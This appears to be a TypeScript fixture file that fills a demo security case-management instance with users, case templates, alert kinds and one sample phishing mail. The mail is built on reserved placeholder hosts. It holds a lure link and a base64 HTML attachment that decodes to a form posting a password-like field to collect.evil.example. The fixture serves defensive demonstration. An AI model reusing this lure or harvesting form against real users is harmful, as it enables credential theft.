/** What the demonstration organisation consists of: people, lists, templates and the kinds of events of its history. */

/** Name of the organisation. */
export const demoOrganisation = 'demo';

/** People of it, with their profiles. */
export const people = [
  { login: 'ana@demo.test', name: 'Ana Ferreira', profile: 'org-admin' },
  { login: 'bo@demo.test', name: 'Bo Lindqvist', profile: 'analyst' },
  { login: 'chen@demo.test', name: '陈薇', profile: 'analyst' },
  { login: 'dora@demo.test', name: 'Dora Petit', profile: 'read-only' },
] as const;

/** Custom fields of the instance. */
export const customFields = [
  {
    name: 'business-unit',
    displayName: 'Business unit',
    group: 'Impact',
    description: 'Who is affected',
    type: 'string',
    options: ['Finance', 'Sales', 'Production', 'IT'],
    mandatory: true,
  },
  {
    name: 'affected-hosts',
    displayName: 'Affected hosts',
    group: 'Impact',
    description: 'How many machines',
    type: 'integer',
  },
  {
    name: 'detected-by',
    displayName: 'Detected by',
    group: 'Detection',
    description: 'What or who noticed it first',
    type: 'string',
  },
  {
    name: 'reported-at',
    displayName: 'Reported at',
    group: 'Detection',
    description: 'When a person reported it',
    type: 'date',
  },
] as const;

/** Case templates. */
export const templates = [
  {
    name: 'phishing',
    displayName: 'Phishing',
    titlePrefix: '[Phishing]',
    description: 'A reported or detected phishing mail',
    severity: 2,
    tags: ['phishing'],
    customFields: [
      { name: 'business-unit', value: null },
      { name: 'detected-by', value: null },
    ],
    tasks: [
      {
        title: 'Look at the mail',
        group: 'Identification',
        description: 'Headers, links, attachments; compare the sender with the claimed one',
        mandatory: true,
      },
      {
        title: 'Find all recipients',
        group: 'Identification',
        description: 'Search the mail gateway for sender, subject and links',
      },
      {
        title: 'Who clicked?',
        group: 'Identification',
        description: 'Search the proxy log for the hosts of the links',
      },
      { title: 'Block sender and links', group: 'Containment', description: 'Gateway and proxy' },
      { title: 'Remove the mail from mailboxes', group: 'Containment' },
      { title: 'Reset credentials', group: 'Recovery', description: 'Of everybody who entered something' },
    ],
  },
  {
    name: 'incident-response',
    displayName: 'Incident response',
    titlePrefix: '[IR]',
    description: 'A machine or an account that is probably under foreign control',
    severity: 3,
    tags: ['incident'],
    customFields: [
      { name: 'business-unit', value: null },
      { name: 'affected-hosts', value: null },
    ],
    tasks: [
      { title: 'Isolate', group: 'Containment', mandatory: true },
      { title: 'Collect evidence', group: 'Identification' },
      { title: 'Find the way in', group: 'Identification' },
      { title: 'Clean or rebuild', group: 'Recovery' },
      { title: 'Write down what was learnt', group: 'Afterwards' },
    ],
  },
  {
    name: 'weekly-report',
    displayName: 'Weekly report',
    titlePrefix: '[Report]',
    description: 'What the week brought',
    severity: 1,
    tags: ['report'],
    tasks: [
      { title: 'Collect the figures' },
      { title: 'Write the report' },
      { title: 'Send it to management' },
    ],
  },
] as const;

/** A kind of event in the history. `weight`: how often it happens; `closed`: how its alerts usually end. */
export interface EventKind {
  readonly type: string;
  readonly source: string;
  readonly titles: readonly string[];
  readonly tags: readonly string[];
  readonly severities: readonly number[];
  readonly weight: number;
  readonly template: string;
  /** Share of alerts that become cases. */
  readonly promoted: number;
  readonly closed: readonly string[];
}

/** The kinds: a phishing wave, a beacon, failed logons, and the daily noise. */
export const eventKinds: readonly EventKind[] = [
  {
    type: 'phishing',
    source: 'mail-gateway',
    titles: [
      'Mail reported: Your parcel could not be delivered',
      'Mail reported: Invoice overdue',
      'Mail reported: Your mailbox is full',
      'Mail reported: Updated salary agreement',
    ],
    tags: ['phishing', 'reported'],
    severities: [2, 2, 3],
    weight: 5,
    template: 'phishing',
    promoted: 0.25,
    closed: ['FalsePositive', 'Ignored', 'Duplicate'],
  },
  {
    type: 'edr',
    source: 'edr',
    titles: [
      'Beacon to a rare host every 60 seconds',
      'Encoded PowerShell started by Word',
      'New service installed from a temporary folder',
    ],
    tags: ['endpoint', 'c2'],
    severities: [3, 3, 4],
    weight: 2,
    template: 'incident-response',
    promoted: 0.4,
    closed: ['FalsePositive', 'Ignored'],
  },
  {
    type: 'siem',
    source: 'siem',
    titles: [
      'Many failed logons, then a success',
      'Failed logons from a foreign country',
      'Logon outside of working hours',
    ],
    tags: ['logon', 'rule:AUTH-017'],
    severities: [1, 2, 2, 3],
    weight: 6,
    template: 'incident-response',
    promoted: 0.06,
    closed: ['Ignored', 'FalsePositive'],
  },
  {
    type: 'dlp',
    source: 'proxy',
    titles: ['Large upload to a file sharing service', 'Archive with password left the network'],
    tags: ['upload'],
    severities: [1, 2],
    weight: 2,
    template: 'incident-response',
    promoted: 0.08,
    closed: ['Ignored', 'FalsePositive'],
  },
];

/** The mail that becomes the newest alert. Its hosts are reserved names. */
export const phishingMail = [
  'Return-Path: <bounce@mailer.invalid>',
  'Received: from mail.mailer.invalid (mail.mailer.invalid [203.0.113.77]) by mx.demo.test with ESMTPS id 4Qx; Tue, 13 Jan 2026 07:41:12 +0000',
  'Received: from [198.51.100.23] (unknown [198.51.100.23]) by mail.mailer.invalid with ESMTPSA; Tue, 13 Jan 2026 07:41:10 +0000',
  'Authentication-Results: mx.demo.test; spf=fail smtp.mailfrom=mailer.invalid; dkim=none; dmarc=fail header.from=evil.example',
  'From: "IT Service Desk" <helpdesk@evil.example>',
  'Reply-To: collect@drop.example',
  'To: bo@demo.test',
  'Subject: Your mailbox will be closed today',
  'Date: Tue, 13 Jan 2026 07:41:09 +0000',
  'Message-ID: <20260113.7411@mailer.invalid>',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="part"',
  '',
  '--part',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Dear user,</p><p>your mailbox is over its quota. Please confirm your account <b>today</b>:</p>',
  '<p><a href="http://login.evil.example/confirm?user=bo%40demo.test">https://mail.demo.test/confirm</a></p>',
  '<p>IT Service Desk</p>',
  '--part',
  'Content-Type: text/html; name="statement.html"',
  'Content-Disposition: attachment; filename="statement.html"',
  'Content-Transfer-Encoding: base64',
  '',
  'PGZvcm0gYWN0aW9uPSJodHRwOi8vY29sbGVjdC5ldmlsLmV4YW1wbGUvcG9zdCI+PGlucHV0IG5hbWU9InAiPjwvZm9ybT4=',
  '--part--',
  '',
].join('\r\n');
